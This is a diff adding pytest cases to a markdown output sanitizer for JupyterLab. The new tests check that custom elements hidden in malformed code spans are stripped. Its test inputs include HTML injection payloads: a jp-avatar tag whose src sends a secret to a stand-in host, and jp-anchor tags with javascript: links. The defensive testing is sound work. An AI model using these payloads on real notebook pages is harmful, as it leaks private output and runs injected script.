@@ -477,6 +477,42 @@ def test_markdown_code_spans_keep_angle_brackets():
     assert "<b>bold</b>" in out
 
 
+@pytest.mark.parametrize("private", [False, True])
+@pytest.mark.parametrize(
+    "md",
+    [
+        # a "code span" across a blank line: two paragraphs for JupyterLab's
+        # marked, with raw HTML between them (an attack review)
+        'Summary `\n\n<jp-avatar src="//127.0.0.1:9/leak?d=SECRET"></jp-avatar>\n\n` done',
+        'Summary `\n \n<jp-anchor href="javascript:alert(1)">x</jp-anchor>\n\t\n` done',
+        # a heading is one line: its backtick opens nothing in the next lines
+        '# Title `\n<jp-anchor href="javascript:alert(1)">x</jp-anchor>\n`',
+        # code for sure: a custom element or an attribute is still not kept as a tag
+        '`<jp-avatar src="//127.0.0.1:9/leak">`',
+        "`<x-frame>` and `<x-frame class=a>`",
+    ],
+)
+def test_markdown_keeps_no_custom_element_where_it_guessed_code(md: str, private: bool) -> None:
+    """JupyterLab's page defines custom elements (``<jp-avatar src>`` loads an
+    image, ``<jp-anchor href>`` makes a link in its shadow root): a tag kept
+    as written in what the cleaner took for code reached the page as HTML
+    where marked saw none, and fetched a private output's data in a plain
+    Lab (an attack review, in Chromium)."""
+    out = sanitize_bundle({"text/markdown": md}, private=private).data["text/markdown"]
+    assert not re.search(r"<(jp-|x-frame)", out), out
+    assert not re.search(r"<(jp-|x-frame)", render_markdown(out))
+
+
+def test_a_code_span_ends_at_a_blank_line() -> None:
+    from sandbox_kernel.outputs._markdown import segments
+
+    # as CommonMark reads it: "a `b" and "c` d `e` f" are two paragraphs
+    text = "a `b\n\nc` d `e` f"
+    kinds = [(kind, text[start:end]) for kind, start, end in segments(text)]
+    assert kinds == [("text", "a `b\n\nc"), ("code", "` d `"), ("text", "e` f")], kinds
+    assert [kind for kind, _, _ in segments("a `b\nc` d")] == ["text", "code", "text"]
+
+
 @pytest.mark.parametrize(
     "md",
     [
